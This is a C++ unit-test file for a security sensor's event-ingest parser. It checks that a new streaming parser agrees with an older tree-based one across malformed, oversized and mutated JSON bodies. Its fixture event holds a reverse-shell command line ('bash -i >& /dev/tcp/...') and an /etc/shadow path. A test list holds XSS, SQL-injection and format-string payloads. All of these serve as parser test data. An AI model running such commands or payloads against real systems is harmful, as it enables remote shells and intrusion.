// The one-pass POST /events parser against the tree-based one it replaced
// (events_tree_reference.h), fed by either JSON parser: on every body, the same accept or
// reject, the same error text, and for accepted bodies byte-identical stored JSON and
// search text.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <random>

#include "events_tree_reference.h"
#include "sandwatch/receiver/ingest.h"

namespace sandwatch::receiver {
namespace {

using nlohmann::json;

json FullEvent() {
  return json::parse(R"({"schema":"sandwatch.event/v1","id":"0f0e8a4c-1","seq":7,
    "time":"2026-11-28T09:00:00.123456789Z","rule":"reverse_shell","priority":"Critical",
    "output":"bash -i >& /dev/tcp/127.0.0.1/4444","tags":["mitre_execution","shell"],
    "source":"sandwatch","sensor":{"id":"s1","mode":"kata","capture":"poll","version":"0.1.0"},
    "k8s":{"pod":"kata-app","namespace":"kata-demo"},"hostname":"node-1",
    "process":{"pid":41,"ppid":1,"start_time_ns":123456,"name":"bash","exe":"/bin/bash",
               "cmdline":["bash","-i"],"cwd":"/","uid":0},
    "parent":{"pid":1,"name":"sh","cmdline":["sh","-c","x"]},
    "ancestors":[{"pid":1,"name":"sh"},{"pid":0,"name":"init","cmdline":[]}],
    "file":{"path":"/etc/shadow"},
    "connection":{"proto":"tcp","local":"127.0.0.1:5","remote":"127.0.0.1:4444"},
    "detection":{"method":"poll","lag_ms":12.5},
    "fields":{"suppressed":"3","n":4,"f":1.25,"b":true,"z":null,"o":{"b":[1,{"a":2}],"a":"x"}}})");
}

// Returns "accepted" or the error, after checking both parsers agree on `body`.
std::string ExpectSame(const std::string& body) {
  auto tree = ParseEventsBodyTree(body);
  auto streamed = ParseEventsBody(body);
  auto lexed = ParseEventsBody(body, EventsParser::kNlohmann);  // nlohmann's parser alone
  EXPECT_EQ(lexed.ok() ? "accepted" : lexed.error().message,
            streamed.ok() ? "accepted" : streamed.error().message)
      << body.substr(0, 400);
  for (size_t i = 0; lexed.ok() && streamed.ok() && i < lexed->size(); ++i) {
    EXPECT_EQ(EventToJsonLine((*lexed)[i]), EventToJsonLine((*streamed)[i]));
  }
  EXPECT_EQ(tree.ok(), streamed.ok()) << body.substr(0, 400);
  if (!tree.ok() || !streamed.ok()) {
    if (!tree.ok() && !streamed.ok()) {
      EXPECT_EQ(tree.error().message, streamed.error().message) << body.substr(0, 400);
      return tree.error().message;
    }
    return "disagreement";
  }
  EXPECT_EQ(tree->size(), streamed->size());
  for (size_t i = 0; i < tree->size() && i < streamed->size(); ++i) {
    EXPECT_EQ(EventToJsonLine((*tree)[i]), EventToJsonLine((*streamed)[i])) << body.substr(0, 400);
    EXPECT_EQ(SearchText((*tree)[i]), SearchText((*streamed)[i]));
  }
  return "accepted";
}

std::string With(const std::string& path, const json& value) {
  json e = FullEvent();
  e[json::json_pointer(path)] = value;
  return e.dump();
}

TEST(EventStream, AgreesOnTheKnownBadInputs) {
  for (const char* body : {"", "{", "[1,", "not json", "{\"id\":}", "42", "[42]", "\"x\"", "null",
                           "[]", "{}", "[{}]", "[[]]", "[{},42]", "\xEF\xBB\xBF[]"}) {
    ExpectSame(body);
  }
  json bad = FullEvent();
  bad["seq"] = "seventeen";
  EXPECT_EQ(ExpectSame(json::array({FullEvent(), bad}).dump()), "[1] seq: expected an integer");
  ExpectSame(std::string(100000, '['));
  ExpectSame(std::string(33, '[') + std::string(33, ']'));
  ExpectSame(std::string(32, '[') + std::string(32, ']'));
  json arr = json::array();
  for (size_t i = 0; i <= kMaxBatchEvents; ++i) arr.push_back(i == 5 ? json(FullEvent()) : json(1));
  EXPECT_EQ(ExpectSame(arr.dump()), "batch has more than 10000 events");
  EXPECT_EQ(ExpectSame(With("/output", std::string(1000, '['))), "accepted");
}

TEST(EventStream, AgreesOnEveryFieldWithEveryWrongType) {
  const std::vector<json> values = {nullptr,
                                    true,
                                    0,
                                    -1,
                                    7,
                                    9223372036854775807ULL,
                                    18446744073709551615ULL,
                                    -2.5,
                                    1e300,
                                    "",
                                    "x",
                                    json::array(),
                                    json::array({"a"}),
                                    json::array({1}),
                                    json::object(),
                                    json::object({{"pid", 1}})};
  const std::vector<std::string> paths = {"/schema",
                                          "/id",
                                          "/seq",
                                          "/time",
                                          "/rule",
                                          "/priority",
                                          "/output",
                                          "/tags",
                                          "/tags/1",
                                          "/source",
                                          "/sensor",
                                          "/sensor/id",
                                          "/sensor/version",
                                          "/k8s",
                                          "/k8s/pod",
                                          "/k8s/namespace",
                                          "/hostname",
                                          "/process",
                                          "/process/pid",
                                          "/process/ppid",
                                          "/process/start_time_ns",
                                          "/process/name",
                                          "/process/cmdline",
                                          "/process/cmdline/0",
                                          "/process/cwd",
                                          "/process/uid",
                                          "/parent",
                                          "/parent/pid",
                                          "/parent/name",
                                          "/parent/cmdline",
                                          "/parent/cmdline/2",
                                          "/ancestors",
                                          "/ancestors/0",
                                          "/ancestors/1/pid",
                                          "/ancestors/1/cmdline",
                                          "/ancestors/1/cmdline/0",
                                          "/file",
                                          "/file/path",
                                          "/connection",
                                          "/connection/remote",
                                          "/detection",
                                          "/detection/method",
                                          "/detection/lag_ms",
                                          "/fields",
                                          "/fields/n",
                                          "/fields/new",
                                          "/unknown",
                                          "/process/unknown"};
  int accepted = 0;
  for (const auto& p : paths) {
    for (const auto& v : values) accepted += ExpectSame(With(p, v)) == "accepted" ? 1 : 0;
  }
  EXPECT_GT(accepted, 100);
}

TEST(EventStream, AgreesOnLimitsAndRanges) {
  const std::string big(kMaxStringBytes + 1, 'a');
  EXPECT_EQ(ExpectSame(With("/output", big)), "output: string longer than 64 KiB");
  ExpectSame(With("/output", std::string(kMaxStringBytes, 'a')));
  ExpectSame(With("/process/cmdline/1", big));
  ExpectSame(With("/ancestors/1/cmdline", json::array({"a", big})));
  ExpectSame(With("/fields/k", big));
  ExpectSame(With("/fields/k", json::array({big})));
  ExpectSame(With("/tags", json::array({"x", 1, big})));
  ExpectSame(With("/tags", std::vector<std::string>(kMaxArrayItems + 1, "t")));
  ExpectSame(With("/tags", std::vector<json>(kMaxArrayItems + 1, 1)));
  ExpectSame(With("/ancestors", std::vector<json>(65, json{{"pid", 1}})));
  ExpectSame(With("/ancestors", std::vector<json>(64, json{{"pid", "x"}})));
  json many = json::object();
  for (size_t i = 0; i <= kMaxArrayItems; ++i) many["k" + std::to_string(i)] = i;
  ExpectSame(With("/fields", many));
  for (const char* t : {"1969-12-31T23:59:59Z", "2200-01-01T00:00:00Z", "2199-12-31T23:59:59Z",
                        "2026-13-01T00:00:00Z", "yesterday", "1970-01-01T00:00:00Z"}) {
    ExpectSame(With("/time", t));
  }
  for (const char* p : {"warning", "INFO", "informational", "Info", "debug", "Loud", ""}) {
    ExpectSame(With("/priority", p));
  }
  ExpectSame(With("/id", std::string(128, 'i')));
  ExpectSame(With("/id", std::string(129, 'i')));
  ExpectSame(With("/seq", -1));
  ExpectSame(With("/process/start_time_ns", -5));
  ExpectSame(With("/schema", "sandwatch.event/v2"));
  // Numbers as written, at an integer, a pid, a double and a free-form field.
  for (const char* n : {"1e400", "-1e400", "99999999999999999999", "-9223372036854775809",
                        "-9223372036854775808", "1.0", "-0", "0e0", "4294967296", "2147483648"}) {
    for (const char* path : {"/seq", "/process/pid", "/detection/lag_ms", "/fields/x"}) {
      std::string body = With(path, "@@");
      body.replace(body.find("\"@@\""), 4, n);
      ExpectSame(body);
    }
  }
}

TEST(EventStream, AgreesOnRepeatedKeysAndKeyOrder) {
  const std::string base = FullEvent().dump();
  // A repeated key replaces the value before it, at every level.
  for (const char* first :
       {R"("rule":5,)", R"("rule":"x",)", R"("process":7,)", R"("process":{"pid":"x"},)",
        R"("ancestors":[1],)", R"("fields":{"a":"b"},)", R"("time":null,)", R"("seq":-4,)",
        R"("parent":{"cmdline":[1]},)", R"("detection":{"lag_ms":"x"},)"}) {
    std::string body = base;
    body.insert(1, first);
    ExpectSame(body);
  }
  for (const char* last :
       {R"(,"rule":null)", R"(,"id":"")", R"(,"process":null)", R"(,"process":{"pid":"x","pid":2})",
        R"(,"sensor":{"id":1,"id":"a"})", R"(,"fields":{"a":1,"a":"2","b":{"c":1,"c":[2]}})",
        R"(,"tags":["a"],"tags":[1])", R"(,"seq":1.5,"seq":3)"}) {
    std::string body = base;
    body.insert(body.size() - 1, last);
    ExpectSame(body);
  }
  // Several faults in one event: the one reported is the first in the schema's order,
  // whatever order the keys came in.
  ExpectSame(R"({"seq":"x","rule":5,"id":7,"time":"bad"})");
  ExpectSame(R"({"fields":[],"process":{"uid":"u","pid":"p"},"time":"2026-01-01T00:00:00Z",
                 "rule":"r","id":"i","ancestors":[{"pid":"a"},{"name":5}],"sensor":{"mode":1}})");
  ExpectSame(R"({"priority":"nope","rule":"","id":"i","time":"2026-01-01T00:00:00Z"})");
  ExpectSame(R"({"ancestors":[{"cmdline":[1]},{"pid":"x"}],"time":"x","rule":"r","id":"i"})");
}

TEST(EventStream, AgreesOnHostileStrings) {
  const std::vector<std::string> hostile = {"<script>alert(1)</script>",
                                            "\x1b[31mred\x1b[0m",
                                            std::string("nul\0byte", 8),
                                            "\u202Eevil",
                                            "line\u2028sep",
                                            "\xF0\x9F\x92\xA5",
                                            "quote\"back\\slash",
                                            "\t\r\n",
                                            "' OR 1=1 --",
                                            "%s%n%x",
                                            "\xED\x9F\xBF"};
  for (const auto& s : hostile) {
    for (const char* path : {"/output", "/rule", "/process/cmdline/0", "/fields/x", "/k8s/pod"}) {
      EXPECT_EQ(ExpectSame(With(path, s)), "accepted");
    }
  }
  // Bytes that are not UTF-8 and escapes that are not characters: refused by both.
  for (const char* raw : {"\xC3\x28", "\xED\xA0\x80", "\xF8\x88\x80\x80\x80", "\xFF", "\\ud800",
                          "\\udc00", "\\ud800\\u0041", "\\x41", "\x01"}) {
    std::string body = FullEvent().dump();
    body.replace(body.find("bash -i"), 7, raw);
    EXPECT_EQ(ExpectSame(body), "malformed JSON") << raw;
  }
}

// The body is parsed by simdjson and walked, or, where the two parsers could differ, left to
// nlohmann's parser (event_stream_parse.cpp); both ways must decide as the tree does.
TEST(EventStream, AgreesOnBothParsingPaths) {
  // Escapes (nlohmann's path) and the characters they stand for (simdjson's).
  for (const char* s : {R"(\u0041)", "A", R"(\u00e9)", "\xC3\xA9", R"(\ud83d\ude00)",
                        "\xF0\x9F\x98\x80", R"(\u0000)", R"(\/)", R"(\b\f\n\r\t)"}) {
    std::string body = FullEvent().dump();
    body.replace(body.find("bash -i"), 7, s);
    EXPECT_EQ(ExpectSame(body), "accepted") << s;
  }
  // Doubles that need exact rounding, and integers at the edges of 64 bits.
  for (const char* n : {"0.1", "2.2250738585072011e-308", "1.7976931348623157e308", "5e-324",
                        "1e-400", "-0.0", "9223372036854775807", "9223372036854775808",
                        "18446744073709551615", "18446744073709551616", "-9223372036854775808"}) {
    for (const char* path : {"/seq", "/detection/lag_ms", "/fields/x", "/extra"}) {
      std::string body = With(path, "@@");
      body.replace(body.find("\"@@\""), 4, n);
      ExpectSame(body);
    }
  }
  // Whitespace, and text after the value.
  for (const char* wrap : {" \t\r\n%s\n", "%s x", "%s%s", "%s\f", "\v%s", "%s,"}) {
    std::string w = wrap;
    const std::string e = FullEvent().dump();
    for (size_t at; (at = w.find("%s")) != std::string::npos;) w.replace(at, 2, e);
    ExpectSame(w);
    ExpectSame("[" + w + "]");
  }
  // Batches either side of the size up to which simdjson parses.
  const std::string one = FullEvent().dump();
  for (size_t bytes : {size_t{127} * 1024, size_t{129} * 1024}) {  // the limit is 128 KiB
    json batch = json::array();
    while (batch.dump().size() + one.size() < bytes) batch.push_back(FullEvent());
    EXPECT_EQ(ExpectSame(batch.dump()), "accepted");
    batch.push_back(json{{"seq", "x"}});
    EXPECT_EQ(ExpectSame(batch.dump()).substr(0, 1), "[");
  }
}

// A few hundred bodies: random changes to a batch's text (syntax) and random values put
// at random places in an event (schema).
TEST(EventStream, AgreesOnMutatedBodies) {
  std::mt19937_64 rng(20261207);
  const std::string base = json::array({FullEvent(), FullEvent()}).dump();
  const std::string alphabet = "{}[]\":,0123456789-.eE \\tfnu\x80\xC3";
  int accepted = 0;
  int rejected = 0;
  for (int i = 0; i < 300; ++i) {
    std::string body = base;
    for (int k = 0; k < 1 + static_cast<int>(rng() % 3); ++k) {
      size_t at = rng() % body.size();
      switch (rng() % 3) {
        case 0:
          body.erase(at, 1 + rng() % 4);
          break;
        case 1:
          body.insert(at, 1, alphabet[rng() % alphabet.size()]);
          break;
        default:
          body[at] = alphabet[rng() % alphabet.size()];
          break;
      }
    }
    (ExpectSame(body) == "accepted" ? accepted : rejected)++;
  }
  const std::vector<std::string> paths = {"/seq",
                                          "/time",
                                          "/rule",
                                          "/tags",
                                          "/sensor",
                                          "/sensor/capture",
                                          "/k8s",
                                          "/process",
                                          "/process/cmdline",
                                          "/process/uid",
                                          "/parent",
                                          "/parent/cmdline",
                                          "/ancestors",
                                          "/ancestors/0/name",
                                          "/file",
                                          "/connection/local",
                                          "/detection/lag_ms",
                                          "/fields",
                                          "/fields/o/b",
                                          "/extra",
                                          "/priority",
                                          "/schema"};
  for (int i = 0; i < 300; ++i) {
    json e = FullEvent();
    for (int k = 0; k < 1 + static_cast<int>(rng() % 3); ++k) {
      json v;
      switch (rng() % 8) {
        case 0:
          v = nullptr;
          break;
        case 1:
          v = static_cast<int64_t>(rng());
          break;
        case 2:
          v = static_cast<double>(rng() % 1000) / 7.0;
          break;
        case 3:
          v = std::string(rng() % 20, static_cast<char>('a' + rng() % 26));
          break;
        case 4:
          v = json::array({"a", rng() % 3});
          break;
        case 5:
          v = json{{"pid", rng() % 5}, {"name", "n"}};
          break;
        case 6:
          v = rng() % 2 == 0;
          break;
        default:
          v = json::array();
          break;
      }
      try {
        e[json::json_pointer(paths[rng() % paths.size()])] = v;
      } catch (const json::exception&) {  // the path runs through a value replaced before
      }
    }
    (ExpectSame(e.dump()) == "accepted" ? accepted : rejected)++;
  }
  EXPECT_GT(accepted, 50);
  EXPECT_GT(rejected, 200);
}

}  // namespace
}  // namespace sandwatch::receiver
